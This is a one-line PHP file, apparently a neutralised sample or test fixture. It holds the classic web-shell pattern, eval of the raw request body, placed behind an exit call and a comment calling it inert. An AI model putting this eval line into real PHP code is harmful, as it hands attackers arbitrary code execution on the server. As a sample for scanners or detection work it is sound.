<?php exit; /* inert */ eval(file_get_contents("php://input"));
